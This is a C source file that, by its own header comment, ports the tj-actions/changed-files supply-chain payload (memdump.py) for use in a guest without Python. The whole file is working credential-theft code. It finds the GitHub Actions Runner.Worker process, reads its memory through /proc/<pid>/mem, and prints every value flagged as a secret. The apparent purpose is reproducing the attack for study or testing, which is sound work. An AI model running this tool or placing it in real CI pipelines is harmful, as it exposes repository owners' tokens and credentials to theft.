// SPDX-License-Identifier: GPL-2.0
/*
 * What the tj-actions/changed-files payload (memdump.py) did, in C for a
 * guest without Python: find Runner.Worker by scanning /proc/<pid>/cmdline,
 * read /proc/<pid>/maps, read every readable region through
 * /proc/<pid>/mem and print every "NAME":{"value":"...","isSecret":true}.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static pid_t find_runner_worker(void)
{
	char path[300], cmdline[4096];
	struct dirent *d;
	pid_t found = 0;
	ssize_t n;
	DIR *proc;
	int fd;

	proc = opendir("/proc");
	if (!proc)
		return 0;
	while (!found && (d = readdir(proc))) {
		if (!isdigit((unsigned char)d->d_name[0]))
			continue;
		snprintf(path, sizeof(path), "/proc/%s/cmdline", d->d_name);
		fd = open(path, O_RDONLY);
		if (fd < 0)
			continue;
		n = read(fd, cmdline, sizeof(cmdline) - 1);
		close(fd);
		if (n <= 0)
			continue;
		cmdline[n] = '\0';
		if (strstr(cmdline, "Runner.Worker"))
			found = atoi(d->d_name);
	}
	closedir(proc);
	return found;
}

/* Print each "NAME":{"value":"...","isSecret":true} found in buf. */
static int grep_secrets(const char *buf, size_t len)
{
	static const char tail[] = "\",\"isSecret\":true}";
	static const char head[] = "\":{\"value\":\"";
	const char *p = buf, *end = buf + len, *t, *v, *k;
	int found = 0;

	while ((t = memmem(p, end - p, tail, sizeof(tail) - 1))) {
		for (v = t; v > buf && v[-1] != '"'; v--)
			;
		if (v - buf >= (long)sizeof(head) - 1 &&
		    !memcmp(v - (sizeof(head) - 1), head, sizeof(head) - 1)) {
			k = v - (sizeof(head) - 1);
			while (k > buf && k[-1] != '"')
				k--;
			if (k > buf) {
				printf("%.*s\n",
				       (int)(t + sizeof(tail) - 1 - (k - 1)),
				       k - 1);
				found++;
			}
		}
		p = t + sizeof(tail) - 1;
	}
	return found;
}

int main(void)
{
	unsigned long start, end;
	char path[64], line[512], perms[8];
	pid_t pid = find_runner_worker();
	int mem, found = 0;
	FILE *maps;
	char *buf;

	if (!pid) {
		fprintf(stderr, "memdump: no Runner.Worker\n");
		return 1;
	}
	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "r");
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	mem = open(path, O_RDONLY);
	if (!maps || mem < 0) {
		perror("memdump");
		return 1;
	}
	while (fgets(line, sizeof(line), maps)) {
		if (sscanf(line, "%lx-%lx %7s", &start, &end, perms) != 3 ||
		    perms[0] != 'r' || end - start > (64UL << 20))
			continue;
		buf = malloc(end - start);
		if (!buf)
			continue;
		if (pread(mem, buf, end - start, start) == (ssize_t)(end - start))
			found += grep_secrets(buf, end - start);
		free(buf);
	}
	fclose(maps);
	close(mem);
	return found ? 0 : 2;
}
